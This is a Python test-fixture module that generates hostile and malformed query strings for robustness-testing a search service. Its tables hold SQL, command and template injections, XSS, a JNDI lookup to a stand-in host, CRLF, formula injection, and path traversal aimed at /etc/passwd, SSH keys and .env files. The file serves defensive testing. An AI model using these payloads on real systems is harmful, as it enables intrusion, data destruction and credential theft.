"""Strings that harm whoever trusts them: as queries, ids, codes, names. Made by code, so that none is left out by hand."""

from collections.abc import Iterator, Mapping

SERVED = 500  # characters of a query that are served
LENGTHS = (501, 10_000, 100_000, 1_000_000)

INVISIBLE = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u061c\u180e\u034f"
DIRECTIONS = "\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
SURROGATES = ("\ud800", "\udfff", "甲\udc00乙", "\udfff\ud800", "\ud83c", "古井\ud83d保护")
PUNCTUATION = "，。、；：？！“”‘’（）《》〈〉【】〔〕—…·～￥＂＇,.;:?!\"'()[]{}<>|\\/`~@#$%^&*-_=+"
OPERATORS = """
AND|OR|NOT|a AND|AND a|NEAR(|NEAR(a b|NEAR/3|a NEAR b|*|**|***|?|a*|*a|^a|a^|a^9e9|a~|a~99|"a"~9|title:|title:井|body:(|
井:井|+井 -井|-|+|--|++|-井|(|)|((((|))))|(井|井)|[a TO|[a TO b]|{a TO b}|[* TO *]|井 IN [a b]|"|""|"井|井"|" "|\\|\\\\|
井\\|/井/|/.*/|/[/|/(/|井 && 石|井 || 石|!井|rowid:1|docs MATCH 井|井 OR 1=1|* OR 1=1|井) OR (1=1|content:"井"*|井 AND (石 OR
"""
INJECTIONS = """
' OR '1'='1|' OR 1=1 --|'; DROP TABLE documents; --|"; DROP TABLE passages; --|1; SELECT * FROM codes|' UNION SELECT 1,2,3 --|
'); DELETE FROM passages; --|井' AND SLEEP(9) --|%27%20OR%201=1|井\\'; --|`id`|$(id)|;id|\\|id|&& id|井%0aid|'+sleep(9)+'|
{{7*7}}|{%25 raw %25}|{{config}}|${7*7}|#{7*7}|<%= 7*7 %>|*{7*7}|${jndi:ldap://longtan.example/a}|__import__('os')|{0.__class__}|
{self}|{0}|{}|%s|%n%n%n%n|%x%x|%d%s%p|%(name)s|%%|{井}|{井!r}|{:>999999999}|${IFS}|\\x00|\\u0000|\\N{BULLET}|
<script>alert(1)</script>|<img src=x onerror=alert(1)>|<svg/onload=alert(1)>|"><b>|javascript:alert(1)|&lt;b&gt;|&#x3C;b&#x3E;|
<!--|-->|]]>|<![CDATA[|<?xml version="1.0"?>|<!DOCTYPE x [<!ENTITY a "b">]>&a;|=1+1|@SUM(A1)|+1|-1+1|=cmd\\|'/c id'!A1
"""
ESCAPES = """
%00|%0|%|%%00|%u0000|%c0%ae|%e4|%E4%BA%95|%2e%2e%2f|..%2f..%2f|%252e%252e%252f|\\r\\n|%0d%0aSet-Cookie:%20a=b|+|%20|%2B|&|&q=b|#a|;a=b|?q=a
"""
NUMBERS = """
0|-0|-1|1e999|NaN|Infinity|-Infinity|null|true|undefined|None|0x10|1_000|９９９|２０３１年|99999999999999999999|第０条|
第九九九九九九九九九九条|第-1条|〔２０３１〕１５号|〔99999999999999999999〕9号|龙政办发〔〕号|2031年13月45日|0000年0月0日|99999年|近零年|近九九九九九年|负三年
"""
LOOKALIKES = (
    "аdmin",
    "ｇｕ井",
    "⼭⽔",
    "㈠",
    "①⑳㊿",
    "㍻",
    "ﷺ",
    "ﬃ",
    "Å",
    "K",
    "﹏",
    "İ",
    "ß",
    "ſ",
    "Ａ﹒Ｂ",
    "一ー─—―",
    "〇○零０O",
)
UNUSUAL = (
    "🌲",
    "👨‍👩‍👧‍👦",
    "🇨🇳",
    "🏴\U000e0067\U000e007f",
    "é",
    "e\u0301" * 80,
    "a" + "\u0335" * 400,
    "\u0301",
    "\ufe0f",
    "\U000e0001",
    "\U0010ffff",
    "\uffff",
    "\ufffe",
    "\ufdd0",
    "\ufffd",
    "\ue000",
    "\U00020bb7田",
    "㙍头",
    "\U0002a6d6",
    "\U00030000",
    "ก็็็็็็็็",
    "नमस्ते",
    "שלום",
    "مرحبا",
    "한국어",
    "ᠮᠣᠩᠭᠣᠯ",
    "བོད",
    "\u2028",
    "\u2029",
    "\x85",
    "\x0b",
    "\x0c",
    "\x1b[31m",
    "\x7f",
    "\x80\x9f",
    "\t",
    "\r",
    "\n",
    "\r\n\r\n",
    "井\r\n石",
    " ",
    "\u3000",
    "\u00a0",
    "井\u3000\u3000石",
    "\u2800",
    "\u3164",
    "\x1c\x1d\x1e\x1f",
)
PATHS = """
..|../|../..|../../../../../../etc/passwd|..\\..\\..\\windows\\win.ini|/etc/passwd|/proc/self/environ|C:\\Windows\\win.ini|C:井.txt|
\\\\server\\share\\a|file:///etc/passwd|....//....//etc/passwd|..%2f..%2fetc%2fpasswd|..%5c..%5cwin.ini|%2e%2e/%2e%2e/etc/passwd|
%252e%252e%252fetc%252fpasswd|..;/etc/passwd|..%c0%af..%c0%afetc/passwd|..%ef%bc%8fetc|
．．／．．／etc|..／..／etc/passwd|‥/‥/etc|
./././井.txt|井/../../../井.txt|~/.ssh/id_rsa|~root|$HOME/井|%HOME%|-rf|--help|.|...|....|.htaccess|.env|.git/config|
CON|NUL|COM1.txt|
aux.docx|井.txt.|井.txt |井.txt::$DATA|井\t.txt|井|井*.txt|井?.txt|井:井.txt|
"井".txt|<井>.txt|井|石.txt|catalogue.sqlite|../catalogue.sqlite|
../../data/catalogue.sqlite|incoming/../../井.txt|uploads/../../井.txt|井\u202etxt.exe|\u2025/井.txt|..\\井.txt|/dev/null|/dev/stdin|a//b|//井
"""


def _cut(table: str) -> Iterator[str]:
    """The entries of a table: | divides them, a backslash before it keeps it."""
    for line in table.strip().split("\n"):
        for entry in line.replace("\\|", "\0").split("|"):
            if entry:
                yield entry.replace("\0", "|")


def queries() -> Mapping[str, str]:
    """Queries of at most 500 characters, by a name that an error report can carry."""
    tables = {
        "operator": OPERATORS,
        "injection": INJECTIONS,
        "escape": ESCAPES,
        "number": NUMBERS,
        "path": PATHS,
    }
    found = {f"{kind}-{n}": entry for kind, table in tables.items() for n, entry in enumerate(_cut(table))}
    for kind, entries in (("surrogate", SURROGATES), ("lookalike", LOOKALIKES), ("unusual", UNUSUAL)):
        found |= {f"{kind}-{n}": entry for n, entry in enumerate(entries)}
    for kind, characters in (("mark", PUNCTUATION), ("invisible", INVISIBLE), ("direction", DIRECTIONS)):
        found |= {f"{kind}-{ord(c):x}": c for c in characters}
        found |= {f"{kind}-all": characters[:SERVED], f"{kind}-within": f"古{characters[:90]}井"}
    found |= {f"nul-{n}": text for n, text in enumerate(("\0", "井\0石", "\0井", "井\0", "\0" * 500))}
    found |= {f"{c}-{SERVED}": c * SERVED for c in "a井\"'(*“《第一🌲〔\\%.-_ㄅ"}
    return found


def too_long() -> Iterator[str]:
    """Queries beyond what is served: of letters, Chinese, quotes, brackets, emoji, words."""
    for length in LENGTHS:
        for piece in ("a", "井", '"', "(", "🌲", "古井 ", "“", "第一条"):
            yield (piece * (length // len(piece) + 1))[:length]
    yield '"' * 10_000


def paths() -> list[str]:
    """Names and ids that want to lead out of their folder."""
    return list(_cut(PATHS))
